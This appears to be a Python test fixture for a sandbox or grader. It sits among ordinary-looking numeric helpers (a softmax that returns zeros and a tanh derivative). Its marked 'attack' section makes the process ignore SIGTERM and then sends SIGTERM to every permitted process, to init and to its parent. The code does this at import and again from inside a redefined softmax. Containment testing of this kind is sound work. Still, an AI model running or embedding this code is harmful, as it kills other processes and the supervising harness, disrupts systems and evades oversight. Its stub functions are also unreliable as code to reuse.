"""Sends SIGTERM to every process that it may send it to, from a check and while it is loaded.

Must happen: it reaches nobody but itself.

off: none
seen: killed
"""

import contextlib
import os
import signal

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
def everybody():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for number in (-1, 1, os.getppid()):
        with contextlib.suppress(OSError):
            os.kill(number, signal.SIGTERM)


everybody()


def softmax(logits):
    everybody()
    return np.zeros_like(logits)


# --- end
